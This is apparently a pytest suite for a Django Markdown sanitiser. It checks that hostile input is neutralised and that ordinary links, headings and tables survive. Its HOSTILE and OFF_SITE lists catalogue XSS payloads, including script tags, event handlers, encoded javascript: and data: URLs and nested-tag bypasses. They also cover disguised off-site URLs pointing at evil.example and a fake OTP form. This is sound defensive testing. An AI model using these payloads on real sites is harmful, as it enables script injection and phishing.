"""The sanitiser against hostile Markdown: nothing executable survives."""

import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest

from campaigns.markup import render_markdown, sanitize

# Addresses a browser reads as another host: backslashes, tabs and newlines, and their encodings.
OFF_SITE = [
    "[bấm](/\\evil.example)",
    '<a href="\\\\evil.example">hai gạch ngược</a>',
    "[bấm](\\/evil.example)",
    '<a href="\\/evil.example">gạch ngược, gạch chéo</a>',
    '<a href="/&#92;evil.example">thực thể</a>',
    '<a href="&#x5C;&#x5c;evil.example">thực thể hex</a>',
    '<a href="/\t/evil.example">tab giữa hai gạch</a>',
    '<a href="/&#9;/evil.example">tab mã hóa</a>',
    '<a href="/&#10;/evil.example">xuống dòng</a>',
    '<a href=" //evil.example">khoảng trắng</a>',
    "[bấm](<//evil.example>)",
    '<a href="https:\\\\evil.example">https gạch ngược</a>',
    '<a href="http:/\\evil.example">http gạch lẫn</a>',
    '<a href="/%5Cevil.example">mã phần trăm</a>',
    '<a href="%2F%2Fevil.example">mã phần trăm</a>',
    '<a href="/%252F/evil.example">mã hai lần</a>',
    '<img src="/\\evil.example/x.png">',
    '<img src="&#92;&#92;evil.example/x.png">',
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<a href="#" onclick="alert(1)">bấm</a>',
    '<div onmouseover="alert(1)">rê chuột</div>',
    "[bấm](javascript:alert(1))",
    "[bấm](JaVaScRiPt:alert(1))",
    "[bấm]( javascript:alert(1) )",
    "[bấm](java\tscript:alert(1))",
    '<a href="&#106;&#97;vascript:alert(1)">mã hóa</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[bấm](vbscript:msgbox(1))",
    "![ảnh](javascript:alert(1))",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="background:url(javascript:alert(1))">kiểu</p>',
    '<form action="https://evil.example"><input name="otp"><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="//evil.example/">không giao thức</a>',
    '<img src="x" """ onerror=alert(1)>',
    "<!-- <script>alert(1)</script> -->",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example" target="_blank" rel="opener">mở</a>',
    *OFF_SITE,
]

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "details",
}
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}
PORTAL = "camnang.example"


def resolved_host(url: str) -> str | None:
    """The host a browser opens for `url` on a portal page, read as the WHATWG URL parser does.

    Tabs and newlines are removed, the ends trimmed of spaces and controls, backslashes read
    as slashes, and "https:host" read as https://host (as on a page of another scheme).
    """
    url = "".join(ch for ch in url if ch not in "\t\n\r").strip("".join(map(chr, range(0x21))))
    url = url.replace("\\", "/")
    special = re.match(r"(?i)(https?):/*", url)
    if special:
        url = f"{special.group(1)}://{url[special.end() :]}"
    return urlsplit(urljoin(f"http://{PORTAL}/cam-nang/", url)).hostname


class Elements(HTMLParser):
    """Every start tag and its attributes, as a browser would read them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def dangers(html: str) -> list[str]:
    problems = []
    for tag, attrs in Elements(html).found:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "target", "srcdoc", "formaction"}:
                problems.append(f"{tag}[{name}]")
            if name in {"href", "src"}:
                # Browsers drop tabs and newlines inside URLs and trim the ends before reading the scheme.
                url = "".join(ch for ch in value or "" if ch not in "\t\n\r").strip()
                if urlsplit(url).scheme.lower() not in SAFE_SCHEMES or url.startswith("//"):
                    problems.append(f"{tag}[{name}={value}]")
                if re.search(r"[\x00-\x1f\x7f\\]", value or ""):
                    problems.append(f"{tag}[{name}={value!r}]: backslash or control character")
                host = resolved_host(value or "")
                if tag == "a" and host != PORTAL and attrs.get("rel") != "nofollow noopener":
                    problems.append(f"{tag}[{name}={value}] leads to {host} without rel")
    return problems


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_is_neutralised(markdown):
    html = render_markdown(f"Đoạn đầu.\n\n{markdown}\n\nĐoạn cuối.").html
    assert dangers(html) == [], html
    assert "Đoạn đầu." in html and "Đoạn cuối." in html


@pytest.mark.parametrize("markdown", OFF_SITE)
def test_addresses_disguising_another_host_are_dropped(markdown):
    html = render_markdown(markdown).html
    assert "href" not in html and "src" not in html, html
    assert "evil.example" not in html


@pytest.mark.parametrize(
    "url", ["https:evil.example", "HTTPS:/evil.example", "https:///evil.example", "HtTp://evil.example/a"]
)
def test_every_http_address_is_external_however_it_is_written(url):
    html = render_markdown(f'<a href="{url}">sàn</a>').html
    assert f'<a href="{url}" rel="nofollow noopener">sàn</a>' in html


def test_ordinary_links_survive_the_url_checks():
    html = render_markdown(
        "[tìm](/tim-kiem/?q=a%5Cb) [sàn](https://voso.vn/a%2Fb) [mục](#muc-a) [gọi](tel:0915351008) "
        "[tương đối](dia-ban/) ![ảnh](/media/news/anh.jpg)"
    ).html
    for fragment in (
        '<a href="/tim-kiem/?q=a%5Cb">',
        '<a href="https://voso.vn/a%2Fb" rel="nofollow noopener">',
        '<a href="#muc-a">',
        '<a href="tel:0915351008">',
        '<a href="dia-ban/">',
        'src="/media/news/anh.jpg"',
    ):
        assert fragment in html, fragment


def test_safe_markdown_keeps_its_structure():
    html = render_markdown(
        "## Mua hàng\n\n**Đậm**, *nghiêng*, `mã`.\n\n- một\n- hai\n\n1. bước\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> trích dẫn\n\n[Gọi](tel:0915351008) [Thư](mailto:a@b.vn)"
    ).html
    for fragment in (
        "<strong>Đậm</strong>",
        "<em>nghiêng</em>",
        "<code>mã</code>",
        "<ul>",
        "<ol>",
        "<table>",
        "<blockquote>",
        'href="tel:0915351008"',
        'href="mailto:a@b.vn"',
    ):
        assert fragment in html, fragment


def test_external_links_get_nofollow_noopener_and_internal_ones_do_not():
    html = render_markdown("[sàn](https://postmart.vn/) [huyện](/dia-ban/) [mục](#muc-a)").html
    assert '<a href="https://postmart.vn/" rel="nofollow noopener">' in html
    assert '<a href="/dia-ban/">' in html
    assert '<a href="#muc-a">' in html


def test_rel_from_the_author_is_replaced():
    html = sanitize('<a href="https://x.vn" rel="opener noreferrer">x</a>')
    assert html == '<a href="https://x.vn" rel="nofollow noopener">x</a>'


def test_headings_get_prefixed_ascii_anchors_and_a_table_of_contents():
    rendered = render_markdown("## Thanh toán an toàn\n\n### Mã OTP\n\n## Đóng gói\n\n## Đóng gói")
    assert '<h2 id="muc-thanh-toan-an-toan">' in rendered.html
    assert rendered.toc == [
        {
            "id": "muc-thanh-toan-an-toan",
            "title": "Thanh toán an toàn",
            "children": [{"id": "muc-ma-otp", "title": "Mã OTP", "children": []}],
        },
        {"id": "muc-dong-goi", "title": "Đóng gói", "children": []},
        {"id": "muc-dong-goi_1", "title": "Đóng gói", "children": []},
    ]


def test_raw_html_ids_cannot_clobber_page_ids():
    html = render_markdown('<h2 id="main">x</h2>\n\n<p id="main">y</p>').html
    assert 'id="main"' not in html
    assert '<h2 id="muc-main">' in html


def test_a_level_one_heading_is_not_a_second_h1():
    assert "<h1" not in render_markdown("# Tiêu đề\n\nNội dung").html


def test_empty_body():
    rendered = render_markdown("")
    assert rendered.html == "" and rendered.toc == []


@pytest.mark.django_db
def test_stored_html_is_rebuilt_by_the_migration():
    import importlib

    from django.apps import apps

    from campaigns.models import NewsPost
    from campaigns.tests.factories import NewsFactory

    post = NewsFactory(body="[bấm](/\\evil.example)")
    NewsPost.objects.filter(pk=post.pk).update(body_html='<p><a href="/\\evil.example">bấm</a></p>')
    importlib.import_module("campaigns.migrations.0002_rerender_markdown").rerender(apps, None)
    assert NewsPost.objects.get(pk=post.pk).body_html == "<p><a>bấm</a></p>"
